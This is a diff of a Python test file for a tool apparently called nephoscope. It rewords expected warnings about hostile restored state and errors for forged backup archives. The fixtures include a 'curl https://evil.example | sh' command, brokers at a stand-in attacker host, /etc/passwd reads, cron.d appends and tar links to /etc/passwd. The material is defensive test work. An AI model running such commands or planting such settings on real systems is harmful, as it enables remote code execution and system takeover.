@@ -95,34 +95,34 @@ def hostile_state(folder: Path) -> bytes:
 
 WOULD = [
     "command tidy may run: /bin/sh -c 'curl https://evil.example | sh'",
-    'rule of response tidy up does when incident.created: {"action":"command","name":"tidy"}',
+    'response rule tidy up does when incident.created: {"action":"command","name":"tidy"}',
     'run r1 of tidy up goes on (pending, apply): [{"command":"tidy"},null]',
     'run r2 of tidy up goes on (done, apply): [{"command":"undo"},{"command":"undo"}]',
-    "responses/hook.sh is no file that this nephoscope reads",
-    "mail may send mail to *@example by smtp.example:587 in the name of soc@example",
-    "webhooks may post to private addresses: 10.0.0.0/8",
-    "webhooks trust the authorities of /tmp/own.pem",
-    "event hubs may send to brokers: evil.example:9093",
-    "event hubs may send without TLS to brokers: evil.example:9092",
-    "messages name as the pages of this server: https://evil.example/",
-    'rule of response tidy up does when incident.created: {"action":"webhook"',
+    "responses/hook.sh is not a file that this nephoscope reads",
+    "mail can send mail to *@example by smtp.example:587 as soc@example",
+    "webhooks can post to private addresses: 10.0.0.0/8",
+    "webhooks trusts the authorities of /tmp/own.pem",
+    "event hubs can send to brokers: evil.example:9093",
+    "event hubs can send without TLS to brokers: evil.example:9092",
+    "messages is the address of this server's pages: https://evil.example/",
+    'response rule tidy up does when incident.created: {"action":"webhook"',
     'automation /providers/microsoft.security/automations/out does: [{"actionType":"LogicApp"',
-    "User eve and nothing else is Owner at /, and comes in by 1 token",
-    "sign-in provider evil lets in whom https://evil.example says to have sub=7 as Owner at /",
+    "User eve and nothing else is Owner at /, and signs in by 1 token",
+    "sign-in provider evil grants access to users of https://evil.example with {rules or 'no claims'}",
     "tls/ca.key is a certificate or key of the server",
-    "files notes may append to files in /etc/cron.d",
+    "files notes can append to files in /etc/cron.d",
     'source passwords (folder) uses files or addresses of this machine: {"paths":["/etc"]}',
     "tenant theirs signs in to 11111111-2222-3333-4444-555555555555 in the cloud public",
     "request of the assessments reads /etc/passwd",
     "request of the assessments takes exemptions and attestations from /tmp/waived.json",
     "block blocks at most 50 addresses, and never 0.0.0.0/0",
     "exemption /providers/microsoft.authorization/policyexemptions/all is not judged",
-    "microsoft.security/settings 1 that people put decide",
-    "workspace default keeps, in days: SigninLogs 1",
-    "suppression all holds back what rule * finds",
-    "rule quiet is off in default",
+    "microsoft.security/settings 1 documents that affect assessments",
+    "workspace default has the retention, in days: SigninLogs 1",
+    "suppression all suppresses alerts of rule *",
+    "rule quiet is disabled in default",
     "rule r has triggerThreshold = 9999 over its file in default",
-    "rule r leaves 2 things alone in default that it learned",
+    "rule r ignores 2 learned values in default",
 ]
 
 
@@ -221,7 +221,7 @@ def test_a_state_that_does_something_by_itself_is_refused(nephoscope: Run, tmp_p
 def test_a_file_that_is_no_state_is_refused(nephoscope: Run, tmp_path: Path) -> None:
     file = forged(tmp_path / "b.tar", {"state.db": b"no database" * 100})
     found = nephoscope(tmp_path / "data", "restore", file)
-    assert (found.exit_code, "is no database of a state" in found.stderr) == (2, True), found.output
+    assert (found.exit_code, "is not a database of a state" in found.stderr) == (2, True), found.output
 
 
 @pytest.mark.parametrize(
@@ -229,7 +229,7 @@ def test_a_file_that_is_no_state_is_refused(nephoscope: Run, tmp_path: Path) -> 
 )
 def test_names_that_no_backup_holds_are_refused(nephoscope: Run, tmp_path: Path, name: str) -> None:
     found = nephoscope(tmp_path / "data", "restore", forged(tmp_path / "b.tar", {name: b"x"}), "--check")
-    assert (found.exit_code, "does not belong into a backup" in found.stderr) == (2, True), found.output
+    assert (found.exit_code, "is not allowed in a backup" in found.stderr) == (2, True), found.output
 
 
 @pytest.mark.parametrize(
@@ -241,7 +241,7 @@ def test_what_is_no_plain_file_is_refused(nephoscope: Run, tmp_path: Path, kind:
         member.type, member.linkname = kind, "/etc/passwd"
         tar.addfile(member)
     found = nephoscope(tmp_path / "data", "restore", tmp_path / "b.tar")
-    assert (found.exit_code, "does not belong into a backup" in found.stderr) == (2, True), found.output
+    assert (found.exit_code, "is not allowed in a backup" in found.stderr) == (2, True), found.output
 
 
 def test_a_file_larger_than_its_backup_is_refused(nephoscope: Run, tmp_path: Path) -> None:
@@ -253,4 +253,4 @@ def test_a_file_larger_than_its_backup_is_refused(nephoscope: Run, tmp_path: Pat
         }  # fmt: skip
         tar.addfile(member)
     found = nephoscope(tmp_path / "data", "restore", tmp_path / "b.tar")
-    assert (found.exit_code, "does not belong into a backup" in found.stderr) == (2, True), found.output
+    assert (found.exit_code, "is not allowed in a backup" in found.stderr) == (2, True), found.output
